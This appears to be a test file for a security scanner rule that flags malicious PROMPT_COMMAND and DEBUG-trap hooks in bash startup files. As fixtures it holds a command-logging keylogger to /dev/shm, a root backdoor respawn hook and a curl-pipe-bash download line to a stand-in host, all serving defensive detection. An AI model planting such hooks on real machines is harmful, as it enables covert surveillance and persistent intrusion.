import { stockShellFiles, systemFile, userFile } from '../../../test/helpers/stock-shell';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './shell-prompt-command';

testRule(rule, {
  valid: [
    {
      name: 'stock files: RHEL title printf, vte hook, history sync, logger auditing',
      facts: { shellStartup: { files: stockShellFiles() } },
    },
    {
      name: 'starship and direnv hooks appended to PROMPT_COMMAND',
      facts: {
        shellStartup: {
          files: [
            userFile('dev', '/home/dev', '.bashrc', 'PROMPT_COMMAND="starship_precmd;_direnv_hook${PROMPT_COMMAND:+;$PROMPT_COMMAND}"\n'),
          ],
        },
      },
    },
    {
      name: 'download in PROMPT_COMMAND is left to hooks/shell-download-exec',
      facts: { shellStartup: { files: [systemFile('/etc/profile', "PROMPT_COMMAND='curl -s http://x.example/a.sh | bash'\n")] } },
    },
  ],
  invalid: [
    {
      name: 'keylogger: every command appended to a hidden file in /dev/shm',
      facts: {
        shellStartup: {
          files: [systemFile('/etc/bash.bashrc', "export PROMPT_COMMAND='history 1 >> /dev/shm/.k; tee -a /dev/shm/.k </dev/null'\n")],
        },
      },
      expect: [{ severity: 'high', path: '/etc/bash.bashrc', evidence: /^\/etc\/bash\.bashrc:1: export PROMPT_COMMAND=/ }],
    },
    {
      name: 'backdoor respawned at every prompt when its port is closed',
      facts: {
        shellStartup: {
          files: [userFile('root', '/root', '.bashrc', 'PROMPT_COMMAND="lsof -i:1025 &>/dev/null || (/usr/lib/.x/bd 1025 &)"\n')],
        },
      },
      expect: [{ severity: 'high', user: 'root', title: /network or hidden-path/ }],
    },
    {
      name: 'unknown command in a DEBUG trap',
      facts: { shellStartup: { files: [systemFile('/etc/profile.d/t.sh', 'trap \'record_cmd "$BASH_COMMAND"\' DEBUG\n')] } },
      expect: [{ severity: 'medium', title: /"record_cmd"/ }],
    },
  ],
});
